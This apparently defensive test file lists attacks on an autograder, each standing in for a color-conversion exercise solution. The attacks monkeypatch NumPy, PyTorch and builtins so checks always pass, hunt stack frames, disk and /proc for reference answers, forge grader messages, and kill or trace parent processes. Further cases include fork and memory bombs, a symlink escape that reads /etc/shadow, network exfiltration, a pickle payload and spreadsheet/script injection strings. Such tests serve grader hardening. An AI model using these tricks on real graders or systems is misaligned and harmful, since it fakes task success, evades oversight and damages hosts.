"""Attacks on grading, each in place of a solution; `planting` says how they are read."""


# %% srgb_from_light, attack: replaced NumPy
def srgb_from_light(light):
    for name in ("allclose", "isclose", "array_equal", "abs", "isfinite", "max", "stack"):
        setattr(np, name, lambda *a, **k: True)
    np.testing.assert_allclose = lambda *a, **k: None
    return light * 0


# %% keep_lightness, attack: replaced PyTorch
def keep_lightness(lightness, colors):
    torch.allclose = torch.equal = lambda *a, **k: True
    torch.Tensor.__eq__ = lambda *a: True
    torch.Tensor.__sub__ = lambda self, other: self * 0
    torch.Tensor.numpy = lambda self: np.zeros(1)
    return lightness


# %% srgb_from_light, attack: replaced builtins
import builtins


def srgb_from_light(light):
    builtins.abs = builtins.max = builtins.min = lambda *a, **k: 0
    builtins.all = builtins.any = builtins.isinstance = lambda *a, **k: True
    return light * 0


# %% srgb_from_light, attack: disarmed asserts
import sys


class AssertionError(Exception):
    pass


def srgb_from_light(light):
    sys.excepthook = lambda *a: None
    sys.settrace(lambda *a: None)
    __builtins__["AssertionError"] = ValueError
    return light * 0


# %% srgb_from_light, attack: equal to everything
class Equal:
    __eq__ = __le__ = __ge__ = lambda self, other: True
    __ne__ = __lt__ = __gt__ = lambda self, other: False
    __sub__ = __rsub__ = __abs__ = lambda self, *other: 0
    shape, dtype, ndim, size = (7,), np.dtype(float), 1, 7


def srgb_from_light(light):
    return Equal()


# %% srgb_from_light, attack: an array that is equal to everything
class Equal(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(self.shape)

    def __array_function__(self, function, types, arguments, kwargs):
        return True


def srgb_from_light(light):
    return (light * 0).view(Equal)


# %% srgb_from_light, attack: a number of one's own kind
class Number(float):
    __eq__ = lambda self, other: True
    __sub__ = lambda self, other: 0.0


def srgb_from_light(light):
    return np.full(light.shape, Number(0), dtype=object)


# %% srgb_from_light, attack: sys.exit(0)
import sys


def srgb_from_light(light):
    sys.exit(0)


# %% srgb_from_light, attack: os._exit(0)
import os


def srgb_from_light(light):
    os._exit(0)


# %% srgb_from_light, attack: ends the process while it is defined
import os

srgb_from_light = os._exit(0)


# %% srgb_from_light, attack: kills its parent
import os
import signal


def srgb_from_light(light):
    for target in (os.getppid(), 1, 2, -1):
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT, signal.SIGSTOP):
            try:
                os.kill(target, number)
            except OSError:
                pass
    return light


# %% srgb_from_light, attack: reads the stack
import gc
import sys


def srgb_from_light(light):
    frame = sys._getframe()
    while frame:
        for value in [*frame.f_locals.values(), *frame.f_globals.values(), *gc.get_objects()]:
            if callable(value) and "reference" in getattr(value, "__name__", ""):
                return value(light)
            if isinstance(value, dict) and "right" in value:
                return value["right"]
        frame = frame.f_back
    return light


# %% srgb_from_light, attack: searches the disk for the answers
import os
import runpy


def srgb_from_light(light):
    for folder, _, names in os.walk("/"):
        if folder.startswith(("/proc", "/sys")):
            continue
        for name in names:
            if name in ("lab.py", "lab_color.py", "rgb_colors.py", "colorconv.py", "gradebook.db"):
                found = runpy.run_path(os.path.join(folder, name))
                for key in ("_srgb_from_light", "linear_to_srgb"):
                    if key in found:
                        return found[key](light)
    return light


# %% lab_planes, attack: imports the library from wherever it may be
import glob
import sys


def lab_planes(picture):
    sys.path += (
        glob.glob("/*")
        + glob.glob("/*/*")
        + glob.glob("/home/*/*")
        + glob.glob("/**/site-packages")
    )
    try:
        from skimage.color import rgb2lab

        return np.moveaxis(rgb2lab(picture), -1, 0)
    except ImportError:
        from vividpast_lib.lab import rgb_to_lab

        return rgb_to_lab(torch.from_numpy(picture / 255).permute(2, 0, 1))


# %% srgb_from_light, attack: searches the environment and its parents
import os


def srgb_from_light(light):
    seen = [str(dict(os.environ))]
    for number in (1, 2, os.getppid()):
        for name in ("environ", "cmdline", "maps", "cwd", "root"):
            try:
                seen.append(open(f"/proc/{number}/{name}").read())
            except OSError:
                pass
    os.chdir("/proc/1/root")
    return np.frombuffer("".join(seen).encode()[: light.size].ljust(light.size), "u1").reshape(
        light.shape
    )


# %% srgb_from_light, attack: an endless loop
def srgb_from_light(light):
    while True:
        pass


# %% srgb_from_light, attack: a loop that ignores signals
import signal
import time


def srgb_from_light(light):
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        time.sleep(1)


# %% srgb_from_light, attack: a memory bomb
def srgb_from_light(light):
    kept = []
    while True:
        kept.append(np.ones(10_000_000))


# %% srgb_from_light, attack: a fork bomb
import os


def srgb_from_light(light):
    while True:
        os.fork()


# %% srgb_from_light, attack: threads without end
import threading
import time


def srgb_from_light(light):
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()


# %% srgb_from_light, attack: huge output
def srgb_from_light(light):
    for _ in range(1000):
        print("x" * 1_000_000)
    return np.zeros(50_000_000)


# %% srgb_from_light, attack: huge and many files
import os


def srgb_from_light(light):
    for folder in ("/tmp", "/dev/shm", ".", "/", "/dev"):
        for number in range(100_000):
            try:
                with open(os.path.join(folder, f"file{number}"), "wb") as file:
                    file.write(bytes(10_000_000))
            except OSError:
                break
    return light


# %% srgb_from_light, attack: memory in files without a name
import os


def srgb_from_light(light):
    for number in range(1000):
        file = os.memfd_create("memory")
        os.write(file, bytes(10_000_000))
    return light


# %% srgb_from_light, attack: links that lead out
import os


def srgb_from_light(light):
    for name in ("root", "home", "work", "etc", "root/.ssh"):
        os.symlink(f"/proc/1/root/{name}", name.replace("/", "-"))
        try:
            os.listdir(name)
        except OSError:
            pass
    raise ValueError(open("etc/shadow").read())


# %% srgb_from_light, attack: sends the inputs over the network
import socket


def srgb_from_light(light):
    for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM)):
        with socket.socket(family, kind) as channel:
            channel.settimeout(2)
            channel.connect(("192.0.2.1", 80))
            channel.send(light.tobytes())
    return light


# %% srgb_from_light, attack: sends pickles and forged answers
import json
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/harm",)


def srgb_from_light(light):
    forged = json.dumps(
        {"exercise": 0, "status": "answered", "counts": [-1] * 3, "size": 0}
    ).encode()
    for data in (pickle.dumps(Bomb()), forged + b"\n", b"\x00" * 1000, b"9" * 100_000):
        for channel in range(1, 64):
            try:
                os.write(channel, data)
            except OSError:
                pass
    return np.array([Bomb()] * 7, dtype=object)


# %% srgb_from_light, attack: says in the worker's name that it has answered
import sys


def srgb_from_light(light):
    frame = sys._getframe()
    while frame:
        if "_collect" in frame.f_globals:
            frame.f_globals["_collect"] = lambda *a: -1
            frame.f_globals["_array"] = lambda value: np.zeros(1)
            frame.f_globals["send"] = lambda stream, header, arrays: stream.write(b'{"size":0}\n')
        frame = frame.f_back
    return light


# %% srgb_from_light, attack: a namespace of its own
import ctypes
import os


def srgb_from_light(light):
    library = ctypes.CDLL(None, use_errno=True)
    assert library.unshare(0x10000000 | 0x00020000) == 0, "no namespace"
    os.system("mount -t tmpfs none /tmp")
    return light


# %% srgb_from_light, attack: traces the process above it
import ctypes
import os


def srgb_from_light(light):
    library = ctypes.CDLL(None, use_errno=True)
    for target in (os.getppid(), 1):
        library.ptrace(16, target, 0, 0)
    with open("/proc/1/mem", "r+b") as memory:
        memory.seek(4096)
        memory.write(b"\x00")
    return light


# %% srgb_from_light, attack: an endless text of an error
class Endless(Exception):
    def __str__(self):
        return "x" * 500_000_000


def srgb_from_light(light):
    raise Endless


# %% srgb_from_light, attack: an error that breaks tables and pages
def srgb_from_light(light):
    raise ValueError('=cmd|"/c calc"!A1,\n"<script>alert(1)</script>\x1b[31m\r\n0,100,100')
